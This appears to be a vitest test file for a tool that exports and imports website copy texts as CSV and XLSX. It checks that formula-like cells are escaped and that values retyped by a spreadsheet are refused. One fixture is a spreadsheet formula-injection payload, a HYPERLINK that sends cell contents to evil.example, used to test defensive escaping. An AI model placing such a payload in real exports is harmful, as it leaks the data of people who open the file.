import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { exportCopyFile, importCopyFile } from '../../tools/copy/copyFile.ts';
import { copyTable } from '../../tools/copy/copyTable.ts';
import { editCopyTexts } from '../../tools/copy/editCopyTexts.ts';
import { writeXlsx } from '../../tools/copy/xlsxSheet.ts';
import { csv, PAGES, refusal, rowOf, textsOf, textsWith, withCell } from './copyFiles.ts';

describe('texts a spreadsheet would run as a formula or read as a number or a boolean', () => {
  const risky: [key: string, text: string][] = [
    ['site.navHome', '=HYPERLINK("http://evil.example/?"&A1,"Home")'],
    ['site.tagline', '+1 555 0100'],
    ['complaint.emptyText', '-5% this week'],
    ['contact.submit', '@support'],
    ['contact.phonePlaceholder', '\tTab first'],
    ['promo.phoneInvalid', "'=already quoted"],
  ];
  const pages = editCopyTexts(
    PAGES,
    risky.map(([key, value]) => ({ key, pack: 'en', value })),
  );

  it('CSV export puts an apostrophe before every cell that starts like a formula, and import takes it off', async () => {
    const file = Buffer.from(await exportCopyFile(pages, 'csv'));
    const cells = (parseCsv(file.subarray(3).toString('utf8')) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    for (const [, text] of risky) expect(cells).toContain(`'${text}`);
    expect((await importCopyFile(pages, file)).text).toBe(pages);
  });

  it.each(['csv', 'xlsx'] as const)(
    '%s: 123, true and =1+1 come back as the texts they are, and can be written as texts',
    async (format) => {
      const set = { 'site.navHome': '123', 'site.tagline': 'true', 'contact.submit': '=1+1' };
      const edited = editCopyTexts(
        PAGES,
        Object.entries(set).map(([key, value]) => ({ key, pack: 'en', value })),
      );
      expect((await importCopyFile(edited, await exportCopyFile(edited, format))).text).toBe(edited);
      let rows = copyTable(PAGES);
      for (const [key, value] of Object.entries(set)) rows = withCell(key, 'en', value, rows);
      const { text, changes } = await importCopyFile(PAGES, format === 'csv' ? csv(rows) : await writeXlsx(rows));
      expect(changes.map((c) => `${c.row} ${c.key} ${c.value}`).sort()).toEqual(
        Object.entries(set)
          .map(([key, value]) => `${rowOf(key)} ${key} ${value}`)
          .sort(),
      );
      expect(textsOf(text)).toEqual(textsWith(PAGES, { en: set }));
    },
  );

  it('refuses a text a spreadsheet took for a number or a boolean and wrote back otherwise', async () => {
    const set = { 'site.navHome': '1e3', 'site.tagline': 'true', 'contact.submit': '0012' };
    const pages = editCopyTexts(
      PAGES,
      Object.entries(set).map(([key, value]) => ({ key, pack: 'en', value })),
    );
    let rows = copyTable(pages);
    for (const [key, value] of Object.entries({ 'site.navHome': '1.00E+03', 'site.tagline': 'TRUE', 'contact.submit': '12' }))
      rows = withCell(key, 'en', value, rows);
    const retyped = (key: string, from: string, to: string) =>
      `${rowOf(key)}: the en text of ${key} was "${from}" when exported and is "${to}" here, as a spreadsheet writes a text it took for a number or TRUE/FALSE. Format the cell as Text and type the text again`;
    expect(await refusal(csv(rows), {}, pages)).toEqual([
      retyped('site.tagline', 'true', 'TRUE'),
      retyped('site.navHome', '1e3', '1.00E+03'),
      retyped('contact.submit', '0012', '12'),
    ]);
  });

  it('names the row and the key of a text that cannot be written', async () => {
    const shared = PAGES.replace('          navHome: Home\n', '          navHome: &home Home\n');
    expect(await refusal(csv(withCell('site.navHome', 'en', 'Start', copyTable(shared))), {}, shared)).toEqual([
      `${rowOf('site.navHome')}: site.navHome in pack en is shared through the anchor &home; change it in the editor, where its other uses show`,
    ]);
  });
});
